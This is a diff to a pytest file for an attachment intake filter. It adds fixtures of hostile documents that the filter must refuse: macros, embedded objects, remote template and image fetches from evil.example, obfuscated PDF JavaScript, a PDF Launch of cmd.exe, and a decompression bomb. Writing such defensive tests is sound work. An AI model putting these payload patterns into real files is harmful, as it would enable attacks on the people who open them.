@@ -1,8 +1,9 @@
 """A file is what its content is: whatever it is called, and however it is cut into pieces on its way."""
 
 import pytest
+from intake.adapters import parts
 from intake.adapters.kinds import Look
-from intake.attachments import KINDS, AttachmentKind, shown_name
+from intake.attachments import KINDS, AttachmentActs, AttachmentKind, shown_name
 from kit import papers
 
 OFFICE = "application/vnd.openxmlformats-officedocument"
@@ -20,7 +21,6 @@ REFUSED = {
     "Windows": b"MZ\x90\0\x03\0" + b"\0" * 500,
     "ELF": b"\x7fELF\x02\x01\x01" + b"\0" * 500,
     "ZIP": papers.archive("a.exe"),
-    "macros": papers.docx("word/vbaProject.bin"),
     "ZIP archive": papers.docx()[:-30],
     "Office": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
     "HTML": b"<html><body><script>alert(1)</script></body></html>",
@@ -52,6 +52,52 @@ def test_a_kind_is_known_by_its_content(kind: str, piece: int) -> None:
 def test_what_is_not_taken_is_told_what_it_is(label: str, piece: int) -> None:
     with pytest.raises(AttachmentKind, match=label):
         found(REFUSED[label], piece)
+
+
+RELATIONS = "word/_rels/settings.xml.rels"
+TEMPLATE = papers.relation("attachedTemplate", "https://evil.example/a.dotm")
+PICTURE = papers.relation("image", "//evil.example/a.png").replace('"Ext', '"&#69;xt')
+ACTS = {
+    "macros": papers.docx("word/vbaProject.bin"),
+    "objects": papers.docx("word/embeddings/oleObject1.bin"),
+    "objects in it": papers.docx("word/activeX/activeX1.xml"),
+    "other files": papers.docx("word/media/evil.exe"),
+    "fetches something": papers.docx(holding={RELATIONS: TEMPLATE}),
+    "fetches": papers.docx(holding={RELATIONS: PICTURE}),
+    "unpacks to very much": papers.docx(holding={"word/document2.xml": "0" * 2_000_000}),
+    "cannot be read": papers.docx(filler=9_000).replace(b"word/media/image1.png", b"word/media/image2.png", 1),
+    "cannot be": papers.docx(holding={RELATIONS: "<x/>".encode("utf-16").decode("latin-1")}),
+    "scripts": papers.pdf(20_000, b"<</S /JavaScript /JS (app.alert(1))>>"),
+    "scripts in": papers.pdf(20_000, papers.packed(b"<</S/J#61vaScript/JS 3 0 R>>")),
+    "programs": papers.pdf(20_000, b"<</S/Launch/F(cmd.exe)>>"),
+    "a PDF with other files": papers.pdf(20_000, b"<</Type/EmbeddedFile/Length 3>>"),
+}
+PEACEFUL = [
+    papers.docx(holding={RELATIONS: papers.relation("hyperlink", "https://ojk.example")}),
+    papers.docx("word/embeddings/Microsoft_Excel_Sheet1.xlsx", "word/charts/chart1.xml", streamed=True, filler=50_000),
+    papers.docx("xl/printerSettings/printerSettings1.bin", "docProps/thumbnail.jpeg", "[trash]/0000.dat"),
+    papers.pdf(20_000, b"<</OpenAction[3 0 R/XYZ]/Names<</Dests 4 0 R>>/Title(Launching JavaScript)>>"),
+    papers.pdf(20_000, papers.packed(b"<</Type/Page>>")),
+]
+
+
+@pytest.fixture
+def small(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(parts, "UNPACKED_MOST", 1_000_000)
+
+
+@pytest.mark.usefixtures("small")
+@pytest.mark.parametrize("piece", [13, 10**6])
+@pytest.mark.parametrize("label", ACTS)
+def test_what_acts_where_it_is_opened_is_not_taken(label: str, piece: int) -> None:
+    with pytest.raises(AttachmentActs, match=f"{label.removesuffix(' in')}.*print it into a PDF"):
+        found(ACTS[label], piece)
+
+
+@pytest.mark.parametrize("piece", [13, 10**6])
+@pytest.mark.parametrize("content", PEACEFUL)
+def test_what_people_write_every_day_is_taken(content: bytes, piece: int) -> None:
+    assert found(content, piece) in KINDS
 
 
 def test_a_text_that_begins_like_something_else_is_a_text() -> None:
